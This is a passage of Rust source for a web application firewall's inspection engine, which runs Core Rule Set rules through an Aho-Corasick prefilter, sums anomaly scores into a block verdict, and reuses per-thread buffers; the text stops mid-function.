//! The inspection engine: runs the rule table and the native protocol checks over a parsed
//! request and sums an anomaly score, as the Core Rule Set does.
//!
//! Evaluation has two paths with the same result. The fast path ([`Waf::inspect`]) first runs
//! the literal prefilter ([`crate::prefilter`]): each value is transformed once per distinct
//! output of the pipelines that read it, each distinct output is scanned once by one
//! Aho-Corasick automaton of every rule's atoms, and a rule whose first operator has atoms is
//! then evaluated only on the values where one of them occurred (and not at all when none did).
//! The reference path ([`Waf::inspect_exhaustive`]) evaluates every rule on every value; the
//! tests check that both give the same verdict.

use crate::config::{glob, Glob, WafConfig};
use crate::kept;
use crate::protocol;
use crate::request::{BodyKind, Coll, HttpRequest, Parsed};
use crate::rules::{
    family, has_macro, Cmp, Ctl, Key, KeyHint, Link, MacroKind, OneMacro, Op, Rule, RuleError, RuleSet, Sel, Severity,
    Src,
};

/// A `setvar`'s name's and value's single macros ([`crate::rules::one_macro`]).
type SetvarMacros = (Option<OneMacro>, Option<OneMacro>);
use crate::screen::{pipeline_image, ByteSet};
use crate::transform::{value_mask, Transform};
use std::borrow::Cow;
use std::collections::BTreeMap;

/// One rule that matched.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct RuleMatch {
    /// Rule id.
    pub rule_id: u32,
    /// Rule family (`sqli`, `xss`, `protocol`, ...).
    pub family: &'static str,
    /// Its severity.
    pub severity: Severity,
    /// What it added to the anomaly score (the severity's score unless tuned).
    pub score: u32,
    /// What matched, as `COLLECTION:name` (never the value: it may hold a card number).
    pub target: String,
}

/// The outcome of an inspection.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Verdict {
    /// Sum of the severities of the matches.
    pub score: u32,
    /// The score reached the threshold and the engine is not in detect-only mode.
    pub blocked: bool,
    /// The score reached the threshold (also in detect-only mode).
    pub over_threshold: bool,
    /// Every match, in evaluation order.
    pub matches: Vec<RuleMatch>,
}

impl Verdict {
    /// The id to report for a block: the first match of the highest severity.
    pub fn rule_id(&self) -> Option<u32> {
        let top = self.matches.iter().map(|m| m.score).max()?;
        self.matches.iter().find(|m| m.score == top).map(|m| m.rule_id)
    }
}

/// The inspection engine. Build it once ([`Waf::new`] compiles every expression) and share
/// it: [`Waf::inspect`] takes `&self` and allocates only per request.
#[derive(Debug)]
pub struct Waf {
    rules: RuleSet,
    config: WafConfig,
    /// Transaction variables as the rule table and the configuration set them.
    tx: BTreeMap<String, Vec<u8>>,
    /// Per rule (by index): it runs at this paranoia level and is not disabled.
    active: Vec<bool>,
    /// Per configured exclusion: the rules (bits over rule indices) it skips.
    excl_rules: Vec<Vec<u64>>,
    /// Per configured exclusion: its field patterns, split.
    excl_fields: Vec<Vec<Glob>>,
    /// The prefilter's atom table for this configuration ([`AtomGroups`]).
    atom_groups: AtomGroups,
}

/// What the prefilter records for a found atom, per collection: the active rules with that
/// atom whose first link targets the collection, grouped by the pipeline whose output must hold
/// the atom. Built with the engine, so that the prefilter neither tests each rule's collections
/// and activity nor each (pipeline, rule) pair's output, only each group's
/// (`atom_groups_select_what_atom_rules_select`).
#[derive(Debug, Default)]
struct AtomGroups {
    /// Number of atoms (`Prefilter::atom_rules.len()`).
    atoms: usize,
    /// Per (collection, atom) at `coll * atoms + atom`: its groups are
    /// `groups[start[i]..start[i + 1]]`.
    start: Vec<u32>,
    /// (pipeline, first rule, end of rules) into `rules`.
    groups: Vec<(u32, u32, u32)>,
    /// Rule indices, by group.
    rules: Vec<u32>,
}

impl AtomGroups {
    /// From the prefilter's (pipeline, rule) pairs per atom, keeping for each collection the
    /// rules that are active and whose filter reads the collection (in their order).
    fn new(rs: &RuleSet, active: &[bool]) -> AtomGroups {
        let pf = &rs.prefilter;
        let atoms = pf.atom_rules.len();
        let mut g = AtomGroups {
            atoms,
            start: Vec::with_capacity(Coll::COUNT * atoms + 1),
            groups: Vec::new(),
            rules: Vec::new(),
        };
        g.start.push(0);
        for c in 0..Coll::COUNT {
            for pairs in &pf.atom_rules {
                let from = g.groups.len();
                for &(pipe, r) in pairs {
                    let reads = rs.rules[r as usize]
                        .filter
                        .as_ref()
                        .is_some_and(|f| f.colls & (1 << c) != 0);
                    if !reads || !active[r as usize] {
                        continue;
                    }
                    if !g.groups[from..].iter().any(|&(p, _, _)| p == pipe) {
                        g.groups.push((pipe, 0, 0));
                    }
                }
                // Each group's rules, in the pairs' order.
                for k in from..g.groups.len() {
                    let pipe = g.groups[k].0;
                    let lo = g.rules.len() as u32;
                    for &(p, r) in pairs {
                        let reads = rs.rules[r as usize]
                            .filter
                            .as_ref()
                            .is_some_and(|f| f.colls & (1 << c) != 0);
                        if p == pipe && reads && active[r as usize] {
                            g.rules.push(r);
                        }
                    }
                    g.groups[k] = (pipe, lo, g.rules.len() as u32);
                }
                g.start.push(g.groups.len() as u32);
            }
        }
        g
    }

    /// The groups of an atom found in a value of collection `c`.
    fn of(&self, c: Coll, atom: u32) -> &[(u32, u32, u32)] {
        let i = c as usize * self.atoms + atom as usize;
        match self.start.get(i..i + 2) {
            Some(&[lo, hi]) => self.groups.get(lo as usize..hi as usize).unwrap_or_default(),
            _ => &[],
        }
    }
}

/// A value under evaluation: an item of the request or a computed one.
struct Val<'v> {
    coll: Option<Coll>,
    item: Option<usize>,
    name: &'v [u8],
    value: &'v [u8],
}

/// A matched value: its name and transformed value.
#[derive(Clone)]
struct Hit {
    coll: Option<Coll>,
    name: Vec<u8>,
    value: Vec<u8>,
}

const EMPTY: u32 = u32::MAX;

/// The transformation cache's slot table, kept per thread between inspections so that an
/// inspection neither allocates nor clears it (about `items × pipelines` slots, 20 KB for a
/// 1 KB form request): each inspection takes a new generation, and a slot written by an
/// earlier one reads as empty. `slot_tables_start_empty` checks it.
struct SlotTable;

/// Buffers of transformed values kept per thread between inspections: an inspection writes
/// its transformed values into buffers earlier ones left ([`Transform::apply_into`]) and
/// leaves its own, instead of allocating and freeing one per value.
struct Spare;

/// Most buffers a thread keeps, and the largest capacity it keeps (at most 2 MiB a thread).
const MAX_SPARE: usize = 512;
const MAX_SPARE_CAPACITY: usize = 4096;

thread_local! {
    static SPARE: std::cell::RefCell<Vec<Vec<u8>>> = const { std::cell::RefCell::new(Vec::new()) };
}

impl Spare {
    /// This thread's spare buffers (each empty).
    fn take() -> Vec<Vec<u8>> {
        kept::take(&SPARE)
    }

    /// Keeps the spare buffers and those of an inspection's transformed values for the next
    /// inspection on this thread.
    fn give_back(mut spare: Vec<Vec<u8>>, entries: &mut Vec<Option<Vec<u8>>>) {
        for mut b in entries.drain(..).flatten() {
            if spare.len() >= MAX_SPARE {
                break;
            }
            if b.capacity() <= MAX_SPARE_CAPACITY {
                b.clear();
                spare.push(b);
            }
        }
        spare.truncate(MAX_SPARE);
        kept::keep(&SPARE, spare);
    }
}

/// Most slots a thread keeps between inspections (a larger table is freed after use).
const MAX_KEPT_SLOTS: usize = 1 << 16;

thread_local! {
    /// The table and the generation of the last inspection that used it.
    static SLOT_TABLE: std::cell::RefCell<(Vec<u64>, u64)> = const { std::cell::RefCell::new((Vec::new(), 0)) };
}

impl SlotTable {
    /// A table of at least `n` slots, all empty for the returned generation.
    fn take(n: usize) -> (Vec<u64>, u64) {
        let (mut slots, last) = kept::take(&SLOT_TABLE);
        let mut gen = last + 1;
        if gen > u64::from(u32::MAX) {
            // Generations wrapped: clear the table once.
            slots.fill(0);
            gen = 1;
        }
        if slots.len() < n {
            // Zero is generation 0, which no inspection uses.
            slots.resize(n, 0);
        }
        (slots, gen)
    }

    /// Returns a table for the next inspection on this thread.
    fn give_back(slots: Vec<u64>, gen: u64) {
        if slots.len() > MAX_KEPT_SLOTS {
            return;
        }
        kept::keep(&SLOT_TABLE, (slots, gen));
    }
}

/// Most elements a kept scratch vector may hold (a larger one is freed after use).
const MAX_SCRATCH: usize = 1 << 16;

/// The vectors an inspection fills and leaves, kept per thread between inspections with their
/// capacity (emptied), so that an inspection does not grow each of them from nothing (about
/// 40 reallocations of the 1 KB request). `scratch_comes_back_empty_and_bounded` checks that
/// they come back empty and bounded.
#[derive(Default)]
struct Scratch {
    entries: Vec<Option<Vec<u8>>>,
    child_head: Vec<u32>,
    children: Vec<(Transform, u32, u32)>,
    cands: Vec<(u32, u32)>,
    cand_start: Vec<u32>,
    masks: Vec<u32>,
    bytes: Vec<ByteSet>,
    opens: Vec<u8>,
    pf: PrefilterScratch,
    /// Copies of the transaction variables a read selects (see [`Eval::tx_buf`]): kept with
    /// their contents, which a read overwrites before using them.
    tx_buf: Vec<(String, Vec<u8>)>,
    /// The transaction variables' buffers ([`TxVars`]), emptied.
    tx: TxVars,
    /// Scratch for a `setvar`'s value.
    value_buf: Vec<u8>,
}

/// This request's transaction variables (over `waf.tx`): `vars[..len]`, sorted by name as a
/// `BTreeMap<String, Vec<u8>>` holds them, each name once. The elements from `len` on are the
/// buffers of variables of earlier inspections on this thread: a new variable takes one
/// (moved into place) instead of allocating its name and value, and emptying the set keeps
/// them (`tx_vars_agree_with_a_map`).
#[derive(Default)]
struct TxVars {
    vars: Vec<(String, Vec<u8>)>,
    len: usize,
    /// The two positions last found, the latest first: tried before searching (a capture,
    /// `tx.0`, is set by an operator and read by the `setvar`s after it, which then add a
    /// variable), each used only when the name there is the one looked up.
    last: std::cell::Cell<[usize; 2]>,
}

impl TxVars {
    /// The variables, sorted by name.
    fn live(&self) -> &[(String, Vec<u8>)] {
        self.vars.get(..self.len).unwrap_or_default()
    }

    /// The position of `name` in [`TxVars::live`], or where it would be inserted.
    fn find(&self, name: &str) -> Result<usize, usize> {
        let live = self.live();
        let last = self.last.get();
        if live.get(last[0]).is_some_and(|(k, _)| k == name) {
            return Ok(last[0]);
        }
        if live.get(last[1]).is_some_and(|(k, _)| k == name) {
            self.last.set([last[1], last[0]]);
            return Ok(last[1]);
        }
        let found = live.binary_search_by(|(k, _)| k.as_str().cmp(name));
        self.last.set([found.unwrap_or_else(|i| i), last[0]]);
        found
    }

    /// The value of `name`.
    fn get(&self, name: &str) -> Option<&Vec<u8>> {
        self.find(name).ok().and_then(|i| self.vars.get(i)).map(|(_, v)| v)
    }

    /// The variable named `name`.
    fn get_key_value(&self, name: &str) -> Option<(&String, &Vec<u8>)> {
        self.find(name).ok().and_then(|i| self.vars.get(i)).map(|(k, v)| (k, v))
    }

    /// The variables whose names are `lo` or after it, in name order.
    fn from(&self, lo: &str) -> &[(String, Vec<u8>)] {
        let live = self.live();
        live.get(live.partition_point(|(k, _)| k.as_str() < lo)..)
            .unwrap_or_default()
    }

    /// The value of `name`, emptied, for the caller to write (the variable is added when it
    /// does not exist).
    fn set(&mut self, name: &str) -> &mut Vec<u8> {
        let at = match self.find(name) {
            Ok(i) => i,
            Err(i) => {
                if self.len == self.vars.len() {
                    self.vars.push(Default::default());
                }
                // The spare element at `len` moves to `i`, the variables from `i` on after it.
                if let Some(moved) = self.vars.get_mut(i..=self.len) {
                    moved.rotate_right(1);
                }
                self.len += 1;
                if let Some((k, _)) = self.vars.get_mut(i) {
                    k.clear();
                    k.push_str(name);
                }
                i
            }
        };
        let v = &mut self.vars[at].1;
        v.clear();
        v
    }

    /// Removes every variable, keeping at most [`MAX_TX_BUF`] buffers of at most
    /// [`MAX_TX_BUF_LEN`] bytes each.
    fn empty(&mut self) {
        self.len = 0;
        self.vars.truncate(MAX_TX_BUF);
        self.vars
            .retain(|(k, v)| k.capacity() <= MAX_TX_BUF_LEN && v.capacity() <= MAX_TX_BUF_LEN);
    }
}

/// Most copies of transaction variables a thread keeps, and the longest name or value kept.
const MAX_TX_BUF: usize = 256;
const MAX_TX_BUF_LEN: usize = 4096;

/// [`Eval::prefilter`]'s own vectors (see there), kept in [`Scratch`].
#[derive(Default)]
struct PrefilterScratch {
    out_of: Vec<u16>,
    touched: Vec<usize>,
    triggered: Vec<u64>,
    decoded_masks: Vec<(usize, u32)>,
    decoded: Vec<u8>,
    outs: Vec<Option<usize>>,
    found: Vec<u32>,
    stamp: Vec<u32>,
    start: Vec<u32>,
    sorted: Vec<(u32, u32)>,
}

thread_local! {
    static SCRATCH: std::cell::RefCell<Scratch> = std::cell::RefCell::new(Scratch::default());
}

impl Scratch {
    /// This thread's vectors, each empty.
    fn take() -> Scratch {
        kept::take(&SCRATCH)
    }

    /// Empties the vectors and keeps them for the next inspection on this thread.
    fn give_back(mut self) {
        self.empty();
        kept::keep(&SCRATCH, self);
    }

    fn empty(&mut self) {
        kept::emptied(&mut self.entries, MAX_SCRATCH);
        kept::emptied(&mut self.child_head, MAX_SCRATCH);
        kept::emptied(&mut self.children, MAX_SCRATCH);
        kept::emptied(&mut self.cands, MAX_SCRATCH);
        kept::emptied(&mut self.cand_start, MAX_SCRATCH);
        kept::emptied(&mut self.masks, MAX_SCRATCH);
        kept::emptied(&mut self.bytes, MAX_SCRATCH);
        kept::emptied(&mut self.opens, MAX_SCRATCH);
        let pf = &mut self.pf;
        kept::emptied(&mut pf.out_of, MAX_SCRATCH);
        kept::emptied(&mut pf.touched, MAX_SCRATCH);
        kept::emptied(&mut pf.triggered, MAX_SCRATCH);
        kept::emptied(&mut pf.decoded_masks, MAX_SCRATCH);
        kept::emptied(&mut pf.decoded, MAX_SCRATCH);
        kept::emptied(&mut pf.outs, MAX_SCRATCH);
        kept::emptied(&mut pf.found, MAX_SCRATCH);
        kept::emptied(&mut pf.stamp, MAX_SCRATCH);
        kept::emptied(&mut pf.start, MAX_SCRATCH);
        kept::emptied(&mut pf.sorted, MAX_SCRATCH);
        self.tx_buf.truncate(MAX_TX_BUF);
        self.tx_buf
            .retain(|(k, v)| k.capacity() <= MAX_TX_BUF_LEN && v.capacity() <= MAX_TX_BUF_LEN);
        self.tx.empty();
        if self.value_buf.capacity() > MAX_TX_BUF_LEN {
            self.value_buf = Vec::new();
        }
    }
}

struct Eval<'a> {
    waf: &'a Waf,
    p: &'a Parsed,
    /// Transaction variables set by this request's rules (over `waf.tx`).
    tx: TxVars,
    /// Scratch for a `setvar`'s value.
    value_buf: Vec<u8>,
    /// Per (item, pipeline): `gen << 32 | index into entries`; a slot of another generation
    /// (left by an earlier inspection on this thread) is empty. See [`SlotTable`].
    slots: Vec<u64>,
    /// This inspection's generation (upper 32 bits of its slots).
    gen: u64,
    /// Empty buffers for transformed values (see [`Spare`]).
    spare: Vec<Vec<u8>>,
    /// Transformed values; `None` when the pipeline left the value as it was. Entry `i` for
    /// `i` below the number of items is item `i`'s raw value (always `None`).
    entries: Vec<Option<Vec<u8>>>,
    /// Per entry: the first of the transformations already applied to it (into `children`).
    child_head: Vec<u32>,
    /// (transformation, resulting entry, next sibling) for each entry's applied transformations.
    children: Vec<(crate::transform::Transform, u32, u32)>,
    /// Per item: index of its set in `excl_bits` (0: no exclusion applies).
    item_excl: Vec<u16>,
    /// Distinct sets of excluded rules (bits over rule indices); the first is empty.
    /// Laid out one after another, `excl_words` words each (one look-up per test).
    excl_bits: Vec<u64>,
    /// Words per set of `excl_bits`: one bit per rule.
    excl_words: usize,
    /// (rule index, item) pairs where the prefilter found one of the rule's atoms, sorted.
    cands: Vec<(u32, u32)>,
    /// Per rule index `r`: `cands[cand_start[r]..cand_start[r + 1]]` are its pairs (empty
    /// when the prefilter did not run).
    cand_start: Vec<u32>,
    /// Per item: its [`value_mask`], computed when the inspection starts.
    masks: Vec<u32>,
    /// Per item: the bytes of its raw value, computed when the inspection starts.
    bytes: Vec<ByteSet>,
    /// Per item: whether its raw value is [`crate::words::open`] (0: not computed yet, 1: not
    /// open, 2: open).
    opens: Vec<u8>,
    /// Per collection: the union of its items' `bytes` (`None`: not computed yet).
    coll_bytes: [Option<ByteSet>; Coll::COUNT],
    /// The reference path: transformations computed plainly, without the shortcuts.
    exhaustive: bool,
    /// `setvar`s recorded and not yet applied: (link, setvar, collection, item), in order.
    pending: Vec<(&'a Link, usize, Option<Coll>, usize)>,
    /// Scratch for variable names.
    name_buf: Vec<u8>,
    /// libinjection verdicts of this request on values longer than [`MAX_VERDICT_KEY`] (and
    /// on every value on the reference path): (detector, value, verdict).
    detected: Vec<(Detector, Vec<u8>, bool)>,
    /// The link being evaluated passes its matches on to a next link that reads them (else
    /// only its first match is kept).
    keep_all: bool,
    /// Per item: its name and value (read once from `p`'s buffer).
    nv: Vec<(&'a [u8], &'a [u8])>,
    /// Per collection (by [`Coll`] index): its items are `p.items[start..end]`.
    ranges: [(u32, u32); Coll::COUNT],
    /// Rules removed for this request by `ctl:ruleRemoveById`.
    removed_rules: Vec<u32>,
    /// The prefilter's vectors, from this thread's [`Scratch`].
    pf_scratch: PrefilterScratch,
    /// The variables a `TX:` target selects, copied (a test may change the variables) into
    /// the strings of earlier reads instead of new ones.
    tx_buf: Vec<(String, Vec<u8>)>,
    /// (tag, collections) removed from tagged rules by `ctl:ruleRemoveTargetByTag`.
    removed_targets: Vec<(&'a str, &'a [Coll])>,
}

impl Waf {
    /// An engine with the shipped Core Rule Set table and `config`.
    pub fn new(config: WafConfig) -> Result<Waf, RuleError> {
        Ok(Waf::with_rules(RuleSet::crs()?, config))
    }

    /// An engine with a given rule table.
    pub fn with_rules(mut rules: RuleSet, config: WafConfig) -> Waf {
        let mut tx: BTreeMap<String, Vec<u8>> = rules
            .tx_defaults
            .iter()
            .map(|(k, v)| (k.to_ascii_lowercase(), v.clone().into_bytes()))
            .collect();
        let l = &config.limits;
        let mut set = |k: &str, v: String| {
            tx.insert(k.to_owned(), v.into_bytes());
        };
        set("allowed_methods", config.allowed_methods.join(" "));
        set(
            "allowed_request_content_type",
            config
                .allowed_content_types
                .iter()
                .map(|c| format!("|{}|", c.to_ascii_lowercase()))
                .collect::<Vec<_>>()
                .join(" "),
        );
        set("max_num_args", l.max_args.to_string());
        set("arg_name_length", l.max_arg_name_len.to_string());
        set("arg_length", l.max_arg_len.to_string());
        set("total_arg_length", l.max_body.to_string());
        set("detection_paranoia_level", config.paranoia.to_string());
        rules.inline_constants(&tx);
        // The engine's variables each key of transaction variables selects.
        for rule in &mut rules.rules {
            for link in &mut rule.links {
                for sel in &mut link.targets {
                    if matches!(sel.src, Src::Tx) {
                        let matched = base_matches(&sel.key, &tx);
                        if let Key::Regex(_, hint) = &mut sel.key {
                            hint.base = Some(matched);
                        }
                    }
                }
            }
        }
        let active: Vec<bool> = rules
            .rules
            .iter()
            .map(|r| r.paranoia <= config.paranoia && !config.disabled_rules.contains(&r.id))
            .collect();
        let atom_groups = AtomGroups::new(&rules, &active);
        let words = rules.rules.len().div_ceil(64);
        let excl_rules = config
            .exclusions
            .iter()
            .map(|e| {
                let mut bits = vec![0u64; words];
                for r in &rules.rules {
                    let skip = e.rules.is_empty()
                        || e.rules
                            .iter()
                            .any(|p| (p == "PL2" && r.paranoia >= 2) || glob(p.as_bytes(), r.id_text.as_bytes()));
                    if skip {
                        bits[r.index / 64] |= 1 << (r.index % 64);
                    }
                }
                bits
            })
            .collect();
        let excl_fields = config
            .exclusions
            .iter()
            .map(|e| e.fields.iter().map(|f| Glob::new(f.as_bytes())).collect())
            .collect();
        Waf {
            rules,
            config,
            tx,
            active,
            excl_fields,
            excl_rules,
            atom_groups,
        }
    }

    /// The configuration.
    pub fn config(&self) -> &WafConfig {
        &self.config
    }

    /// The compiled rule table.
    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }

    /// Inspects a request.
    pub fn inspect(&self, req: &HttpRequest<'_>) -> Verdict {
        let parsed = Parsed::new(req);
        let verdict = self.run(req, &parsed, false);
        parsed.recycle();
        verdict
    }

    /// Inspects a request already broken into collections.
    pub fn inspect_parsed(&self, req: &HttpRequest<'_>, parsed: &Parsed) -> Verdict {
        self.run(req, parsed, false)
    }

    /// The reference evaluation: every active rule on every value it targets, without the
    /// prefilter. Same verdict as [`Waf::inspect`], many times slower; for tests and audits.
    pub fn inspect_exhaustive(&self, req: &HttpRequest<'_>) -> Verdict {
        let parsed = Parsed::new(req);
        self.run(req, &parsed, true)
    }

    fn score_of(&self, id: u32, sev: Severity) -> u32 {
        self.config.rule_scores.get(&id).copied().unwrap_or(sev.score())
    }

    fn run(&self, req: &HttpRequest<'_>, parsed: &Parsed, exhaustive: bool) -> Verdict {
        let mut matches = protocol::check(req, parsed, &self.config);
        matches.retain(|m| !self.config.disabled_rules.contains(&m.rule_id));
        for m in &mut matches {
            m.score = self.score_of(m.rule_id, m.severity);
        }
        let mut ev = Eval::new(self, parsed, exhaustive);
        ev.exclusions(req);
        if !exhaustive {
            ev.prefilter();
        }
        for rule in &self.rules.rules {
            if !self.active[rule.index] || ev.removed_rules.contains(&rule.id) {
                continue;
            }
            let only = match &rule.filter {
                Some(_) if !exhaustive => {
                    let r = rule.index as u32;
                    let at = |i: u32| ev.cand_start.get(i as usize).map_or(0, |&x| x as usize);
                    let (lo, hi) = (at(r), at(r + 1));
                    if lo == hi {
                        continue;
                    }
                    Some((lo, hi))
                }
                _ => None,
            };
            if let Some(hit) = ev.rule(rule, only) {
                for c in &rule.ctls {
                    match c {
                        Ctl::RemoveById(id) => ev.removed_rules.push(*id),
                        Ctl::RemoveTargetByTag(tag, colls) => ev.removed_targets.push((tag, colls)),
                    }
                }
                if let Some(sev) = rule.severity {
                    matches.push(RuleMatch {
                        rule_id: rule.id,
                        family: family(rule.id),
                        severity: sev,
                        score: self.score_of(rule.id, sev),
                        target: hit,
                    });
                }
            }
        }
        SlotTable::give_back(std::mem::take(&mut ev.slots), ev.gen);
        Spare::give_back(std::mem::take(&mut ev.spare), &mut ev.entries);
        ev.into_scratch().give_back();
        let score = matches.iter().map(|m| m.score).sum::<u32>();
        let over = score >= self.config.threshold;
        Verdict {
            score,
            blocked: over && !self.config.detect_only,
            over_threshold: over,
            matches,
        }
    }
}

/// Marks the pipelines of `b64` (a pipeline bit set) as giving no output.
fn mark_b64(out_of: &mut [u16], b64: &[u64]) {
    for (w, &b) in b64.iter().enumerate() {
        let mut bits = b;
        while bits != 0 {
            if let Some(o) = out_of.get_mut(w * 64 + bits.trailing_zeros() as usize) {
                *o = u16::MAX;
            }
            bits &= bits - 1;
        }
    }
}

/// Where each collection's items are in `p.items` (grouped by collection in [`Coll`] order):
/// one pass instead of two binary searches per lookup.
fn coll_ranges(p: &Parsed) -> [(u32, u32); Coll::COUNT] {
    let mut ranges = [(0u32, 0u32); Coll::COUNT];
    let n = u32::try_from(p.items.len()).unwrap_or(u32::MAX);
    let mut at = 0usize;
    for (c, range) in ranges.iter_mut().enumerate() {
        let start = at;
        while p.items.get(at).is_some_and(|i| i.coll as usize == c) {
            at += 1;
        }
        *range = (u32::try_from(start).unwrap_or(n), u32::try_from(at).unwrap_or(n));
    }
    ranges
}

const fn coll_name(c: Option<Coll>) -> &'static str {
    match c {
        Some(Coll::ArgsGet | Coll::ArgsPost) => "ARGS",
        Some(Coll::ArgsGetNames | Coll::ArgsPostNames) => "ARGS_NAMES",
        Some(Coll::Cookies) => "REQUEST_COOKIES",
        Some(Coll::CookiesNames) => "REQUEST_COOKIES_NAMES",
        Some(Coll::Headers) => "REQUEST_HEADERS",
        Some(Coll::HeadersNames) => "REQUEST_HEADERS_NAMES",
        Some(Coll::Filename) => "REQUEST_FILENAME",
        Some(Coll::Basename) => "REQUEST_BASENAME",
        Some(Coll::Uri) => "REQUEST_URI",
        Some(Coll::Line) => "REQUEST_LINE",
        Some(Coll::QueryString) => "QUERY_STRING",
        Some(Coll::Body) => "REQUEST_BODY",
        Some(Coll::Xml) => "XML",
        Some(Coll::Files) => "FILES",
        Some(Coll::FilesNames) => "FILES_NAMES",
        Some(Coll::Method) => "REQUEST_METHOD",
        Some(Coll::Protocol) => "REQUEST_PROTOCOL",
        Some(Coll::MultipartPartHeaders) => "MULTIPART_PART_HEADERS",
        None => "TX",
    }
}

/// The byte set of each collection's [`coll_name`] (`coll as usize`; the last, `TX`, for
/// `None`), computed when compiled rather than by [`ByteSet::of`] on each recorded `setvar`.
const COLL_NAME_BYTES: [ByteSet; Coll::COUNT + 1] = {
    let mut t = [ByteSet::EMPTY; Coll::COUNT + 1];
    let mut i = 0;
    while i < Coll::COUNT {
        t[Coll::ALL[i] as usize] = ByteSet::from_bytes(coll_name(Some(Coll::ALL[i])).as_bytes());
        i += 1;
    }
    t[Coll::COUNT] = ByteSet::from_bytes(coll_name(None).as_bytes());
    t
};

/// `ByteSet::of(coll_name(c).as_bytes())`, from [`COLL_NAME_BYTES`].
#[inline]
fn coll_name_bytes(c: Option<Coll>) -> ByteSet {
    COLL_NAME_BYTES[c.map_or(Coll::COUNT, |c| c as usize)]
}

fn key_matches(key: &Key, name: &[u8]) -> bool {
    match key {
        Key::All => true,
        Key::Name(n) => n.eq_ignore_ascii_case(name),
        Key::Regex(r, hint) => match &hint.prefix {
            // Every name the expression matches starts with the prefix; when the expression is
            // only that, every such name matches.
            Some(p) if !(name.len() >= p.len() && name[..p.len()].eq_ignore_ascii_case(p.as_bytes())) => false,
            Some(_) if hint.whole => true,
            // A name shorter than every match cannot match.
            _ if name.len() < hint.min_len => false,
            _ => key_expression_matches(r, hint, name),
        },
    }
}

/// The key expression on a name, unless the name lacks a byte every match holds (not inlined:
/// [`key_matches`] is inlined into every collection visit).
#[inline(never)]
fn key_expression_matches(r: &regex::bytes::Regex, hint: &KeyHint, name: &[u8]) -> bool {
    (hint.required.is_empty() || hint.required.is_subset(&ByteSet::of(name).lowercased())) && r.is_match(name)
}

/// Calls `f` on each transaction variable a key selects, in name order, `mine` (this request's)
/// over `base` (the engine's). Both maps are sorted and their names lower case, so an anchored
/// expression reads only the names from its literal prefix on, merged in order (this
/// request's value first). A name is looked up directly: of the names from it on that start
/// with it, only itself is equal to it ignoring ASCII case.
fn tx_select<'m>(
    mine: &'m TxVars,
    base: &'m BTreeMap<String, Vec<u8>>,
    key: &Key,
    mut f: impl FnMut(&'m String, &'m Vec<u8>),
) {
    use std::ops::Bound;
    let lo: &str = match key {
        Key::All => "",
        Key::Name(n) => {
            let found = std::str::from_utf8(n)
                .ok()
                .and_then(|n| mine.get_key_value(n).or_else(|| base.get_key_value(n)));
            if let Some((k, v)) = found {
                f(k, v);
            }
            return;
        }
        Key::Regex(_, hint) => hint.prefix.as_deref().unwrap_or(""),
    };
    let base = base
        .range::<str, _>((Bound::Included(lo), Bound::Unbounded))
        .take_while(move |(k, _)| k.starts_with(lo))
        .filter(|(k, _)| key_matches(key, k.as_bytes()));
    let mine = mine
        .from(lo)
        .iter()
        .map(|(k, v)| (k, v))
        .take_while(move |(k, _)| k.starts_with(lo))
        .filter(|(k, _)| key_matches(key, k.as_bytes()));
    merge_by_name(mine, base, f);
}

/// Calls `f` with the variables of two runs sorted by name, in name order; a name in both is
/// given once, with the value of `mine` (this request's variables hide the engine's).
#[inline(always)]
fn merge_by_name<'m>(
    mine: impl Iterator<Item = (&'m String, &'m Vec<u8>)>,
    other: impl Iterator<Item = (&'m String, &'m Vec<u8>)>,
    mut f: impl FnMut(&'m String, &'m Vec<u8>),
) {
    let mut mine = mine.peekable();
    let mut other = other.peekable();
    loop {
        let next = match (mine.peek(), other.peek()) {
            (Some((a, _)), Some((b, _))) => match a.cmp(b) {
                std::cmp::Ordering::Less => mine.next(),
                std::cmp::Ordering::Greater => other.next(),
                std::cmp::Ordering::Equal => {
                    other.next();
                    mine.next()
                }
            },
            (Some(_), None) => mine.next(),
            (None, Some(_)) => other.next(),
            (None, None) => break,
        };
        if let Some((k, v)) = next {
            f(k, v);
        }
    }
}

/// Copies the transaction variables a key selects ([`tx_select`]) into `buf[..n]`, reusing
/// the strings of its elements (left by earlier reads, whatever they hold); returns `n`.
/// `tx_copies_agree_with_fresh_copies` checks it.
/// The engine's variables (`base`) that `key` selects ([`KeyHint::base`]).
fn base_matches(key: &Key, base: &BTreeMap<String, Vec<u8>>) -> Vec<(String, Vec<u8>)> {
    let mut found = Vec::new();
    tx_select(&TxVars::default(), base, key, |k, v| found.push((k.clone(), v.clone())));
    found
}

/// [`tx_select`] for the engine's variables `base` when the key knows which of them it
/// selects ([`KeyHint::base`], found when the engine was built): only this request's
/// variables are tested, merged in name order with those (this request's value first).
/// `known_base_matches_agree_with_tx_select` checks it.
fn tx_select_known<'m>(
    mine: &'m TxVars,
    base: &'m BTreeMap<String, Vec<u8>>,
    key: &'m Key,
    f: impl FnMut(&'m String, &'m Vec<u8>),
) {
    let Key::Regex(
        _,
        KeyHint {
            base: Some(known),
            prefix,
            ..
        },
    ) = key
    else {
        tx_select(mine, base, key, f);
        return;
    };
    let lo = prefix.as_deref().unwrap_or("");
    let mine = mine
        .from(lo)
        .iter()
        .map(|(k, v)| (k, v))
        .take_while(move |(k, _)| k.starts_with(lo))
        .filter(|(k, _)| key_matches(key, k.as_bytes()));
    merge_by_name(mine, known.iter().map(|(k, v)| (k, v)), f);
}

fn tx_copy(mine: &TxVars, base: &BTreeMap<String, Vec<u8>>, key: &Key, buf: &mut Vec<(String, Vec<u8>)>) -> usize {
    let mut n = 0;
    tx_select_known(mine, base, key, |k, v| {
        match buf.get_mut(n) {
            Some((bk, bv)) => {
                bk.clone_from(k);
                bv.clone_from(v);
            }
            None => buf.push((k.clone(), v.clone())),
        }
        n += 1;
    });
    n
}

/// Whether `needle` occurs in `hay` (as `memchr::memmem::find(hay, needle).is_some()`). A short
/// needle (up to 64 bytes, as `@within`'s values mostly are) is found from the occurrences of
/// its second byte (at most 64 bytes compared per occurrence, so still linear in `hay`) instead
/// of building a searcher for it on every run.
fn within(needle: &[u8], hay: &[u8]) -> bool {
    match needle {
        [_, second, ..] if needle.len() <= 64 => {
            memchr::memchr_iter(*second, hay).any(|i| i > 0 && hay.get(i - 1..).is_some_and(|h| h.starts_with(needle)))
        }
        _ => memchr::memmem::find(hay, needle).is_some(),
    }
}

fn sel_covers(sel: &Sel, coll: Coll, name: &[u8]) -> bool {
    match &sel.src {
